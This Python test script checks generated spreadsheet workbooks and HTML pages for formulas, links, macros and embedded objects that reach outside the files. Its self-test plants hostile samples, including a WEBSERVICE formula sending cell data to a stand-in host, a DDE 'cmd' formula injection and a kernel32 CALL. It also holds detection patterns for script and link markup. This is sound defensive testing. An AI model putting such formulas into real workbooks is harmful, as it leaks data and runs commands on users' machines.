"""Nothing in a batch's files reaches outside of them: no foreign formula, link, connection, macro or object.

    python3 tests/oracle/outside.py FOLDER... [--plant]

Each FOLDER is a batch, or a folder of batches and lists. Every file that the program wrote is opened with zipfile and an
XML parser alone; what was received (输入, 记录, 退回) is passed over. A workbook may hold the parts and the functions listed
here, and formulas that read cells of its own sheets. Two kinds of workbook link to files beside them, on purpose: 目录.xlsx
to the sheets that it lists, 问题清单.xlsx to the cells of the files received. --plant puts each fault that it must see into
a copy of a workbook.
"""

import io
import pathlib
import re
import sys
import zipfile
from xml.etree import ElementTree

RECEIVED = {"输入", "记录", "退回"}
PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core|custom)\.xml|xl/(workbook|styles|sharedStrings)\.xml"
    r"|xl/_rels/workbook\.xml\.rels|xl/theme/theme1\.xml|xl/worksheets/(_rels/)?sheet\d+\.xml(\.rels)?"
    r"|xl/comments\d+\.xml|xl/drawings/vmlDrawing\d+\.vml|xl/drawings/(_rels/)?drawing\d+\.xml(\.rels)?|xl/charts/chart\d+\.xml"
)
FUNCTIONS = set(
    "ABS AND COUNT COUNTIF COUNTIFS DAY EXACT IF INDEX INT ISNUMBER MAX MIN MONTH NA NOT OR ROUND ROUNDDOWN ROUNDUP ROW "
    "SIGN SQRT SUM SUMIF SUMIFS SUMPRODUCT TRUE YEAR".split()
)
LINKING = {"目录.xlsx", "问题清单.xlsx"}
FORMULAS = {"f", "formula", "formula1", "formula2", "definedName"}
# A list of answers in a cell's drop-down is a text; a parameter that is a fraction is one.
CHOICES = re.compile(r'"[^"]*"')
FRACTION = re.compile(r"-?\d+/\d+")
TEXT = re.compile(r'"(?:[^"]|"")*"')
SHEET = re.compile(r"'((?:[^']|'')*)'!|([\w.]+)!")
CALL = re.compile(r"([\w.]+)\(")
CELL = re.compile(r"\$?[A-Z]{1,3}\$?[1-9]\d*|\$[A-Z]{1,3}:\$[A-Z]{1,3}|\$\d+:\$\d+")
SIGNS = re.compile(r"[\w\s$().,:!'+\-*/<>=&\"{}；%（）()]*")
HTML = re.compile(r"<\s*(script|link|iframe|object|embed|img|base|form)\b|\b(src|href|action)\s*=|url\(|@import|https?:", re.I)


def local(tag):
    return tag.rsplit("}", 1)[-1]


def formula_fault(formula, sheets, names):
    """What is wrong with a formula, or None."""
    if CHOICES.fullmatch(formula) or FRACTION.fullmatch(formula):
        return None
    bare = TEXT.sub('""', formula)
    for quoted, plain in SHEET.findall(bare):
        if (quoted.replace("''", "'") or plain) not in sheets:
            return f"reads {quoted or plain}, which is no sheet of the workbook"
    bare = SHEET.sub("", bare)
    foreign = [name for name in CALL.findall(bare) if name not in FUNCTIONS]
    if foreign:
        return f"calls {foreign[0]}"
    if not SIGNS.fullmatch(bare):
        return "holds a sign that ours do not hold"
    if not CELL.search(bare) and not CALL.search(bare) and not any(name in bare for name in names):
        return "neither reads a cell nor calls a function"
    return None


def formulas(part, root):
    """Every formula of a part, those of charts, rules and names among them."""
    for element in root.iter():
        # A rule of conditional formatting may hold a bare figure, and a chart or a name reads cells as a formula does.
        if local(element.tag) in FORMULAS and element.text:
            rule = local(element.tag).startswith("formula")
            if not (rule and re.fullmatch(r"-?[\d.]+", element.text)):
                yield element.text


def workbook_faults(name, source, beside):
    """What is wrong with a workbook: a list of sentences. `beside`: its folder, for the links of a list."""
    archive = zipfile.ZipFile(source)
    faults = [f"holds {part}" for part in archive.namelist() if not PARTS.fullmatch(part)]
    if archive.testzip():
        faults.append("is damaged")
    book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
    sheets = {element.get("name") for element in book.iter() if local(element.tag) == "sheet"}
    names = {element.get("name") for element in book.iter() if local(element.tag) == "definedName"}
    for part in archive.namelist():
        if not part.endswith((".xml", ".rels", ".vml")):
            continue
        text = archive.read(part)
        if b"<!DOCTYPE" in text or b"<!ENTITY" in text:
            faults.append(f"{part} declares entities")
            continue
        root = ElementTree.fromstring(text)
        if part.endswith(".rels"):
            faults += link_faults(name, part, root, beside)
        for formula in formulas(part, root):
            fault = formula_fault(formula, sheets, names)
            if fault:
                faults.append(f"{part}: {formula[:80]} {fault}")
    if "macro" in archive.read("[Content_Types].xml").decode().lower():
        faults.append("says that it holds macros")
    return faults


def link_faults(name, part, root, beside):
    for link in root:
        if link.get("TargetMode") != "External":
            continue
        target = link.get("Target")
        if name not in LINKING or not part.startswith("xl/worksheets/_rels/") or not link.get("Type").endswith("/hyperlink"):
            yield f"{part} links to {target}"
        elif re.match(r"(?!file:)[A-Za-z][A-Za-z0-9+.\-]+:", target) or target.startswith(("\\\\", "//", "file://")):
            # A list written elsewhere names the office's folder from its root: file:///.
            if not (name == "问题清单.xlsx" and re.match(r"file:///[^/\\]", target)):
                yield f"{part} links out, to {target}"
        elif name == "目录.xlsx" and (".." in target or (beside and not (beside / target).is_file())):
            yield f"{part} links to {target}, which is not below it"


def page_faults(text):
    found = HTML.search(text)
    return [f"holds {found.group(0)}"] if found else []


def written(folder):
    """Every file that the program wrote."""
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.name.startswith(".") and not RECEIVED & set(path.relative_to(folder).parts):
            yield path


def faults_of(path):
    if path.suffix == ".xlsx":
        return workbook_faults(path.name, path, path.parent)
    if path.suffix == ".html":
        return page_faults(path.read_text("utf-8"))
    return [] if path.suffix in (".json", ".beancount", ".txt", ".csv") else ["is of a kind that no batch holds"]


def changed(path, part, old, new):
    """A copy with the first `old` of a part replaced, or with a part more."""
    out = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            text = source.read(name).decode() if name == part else source.read(name)
            if name == part:
                assert old in text, (part, old)
                text = text.replace(old, new, 1)
            target.writestr(name, text)
        if part not in source.namelist():
            target.writestr(part, new)
    return out


def plant(path):
    """Puts each fault into a copy of a workbook; none may pass."""
    archive = zipfile.ZipFile(path)
    sheet = next(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet") and b"<f>" in archive.read(n))
    formula = re.search(r"<f>[^<]*</f>", archive.read(sheet).decode()).group(0)
    rels = "xl/_rels/workbook.xml.rels"
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = lambda kind, target: f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    formulas = [
        'WEBSERVICE("http://a.b/?"&amp;A1)', 'HYPERLINK("http://a.b/"&amp;A1,"看")', "cmd|'/c calc'!A0", "[1]Sheet1!A1",
        "'file:///C:/[a.xlsx]Sheet1'!A1", "'[a.xlsx]Sheet1'!A1", 'INDIRECT("A1")', "1+1", "+8613800138000", "-2+3", "@SUM(A1)",
        "SUM(A1,Sheet99!A1)", 'CALL("kernel32","a",A1)', "RTD(\"a\",,A1)", "_xlfn.IMAGE(A1)", 'IF(A1=1,"a",EVALUATE(A1))', '"=1+1"&amp;B1#',
    ]
    cases = [(sheet, formula, f"<f>{new}</f>") for new in formulas]
    cases += [(rels, "</Relationships>", link(*pair)) for pair in [
        ("externalLink", "file:///C:/a.xlsx"), ("hyperlink", "http://a.b/"), ("attachedTemplate", "//server/a.xltm"), ("image", "https://a.b/x.png"),
    ]]
    cases += [(name, "", "x") for name in [
        "xl/vbaProject.bin", "xl/connections.xml", "xl/externalLinks/externalLink1.xml", "xl/embeddings/oleObject1.bin",
        "xl/queryTables/queryTable1.xml", "xl/activeX/activeX1.bin", "customXml/item1.xml", "xl/macrosheets/sheet1.xml",
    ]]
    missed = [case for case in cases if not seen(path, *case)]
    missed += [(page,) for page in ['<img src="http://a.b/x">', "<script>", "@import", '<a href="//a.b">'] if not page_faults(page)]
    for case in missed:
        print("not seen:", *case)
    if missed:
        sys.exit("a planted fault was not found")
    print(f"all {len(cases) + 4} planted faults were found")


def seen(path, part, old, new):
    try:
        return bool(workbook_faults(path.name, changed(path, part, old, new), None))
    except ElementTree.ParseError:
        return True


def main():
    folders = [pathlib.Path(name) for name in sys.argv[1:] if name != "--plant"]
    count, formula_books, wrong = 0, [], []
    for folder in folders:
        for path in written(folder):
            count += 1
            wrong += [f"{path}: {fault}" for fault in faults_of(path)]
            if path.name == "资金台账.xlsx":
                formula_books.append(path)
    for line in wrong[:20]:
        print(line)
    if wrong or not count:
        sys.exit(f"{len(wrong)} faults in {count} files")
    print(f"{count} files reach nothing outside")
    if "--plant" in sys.argv:
        plant(formula_books[0])


if __name__ == "__main__":
    main()
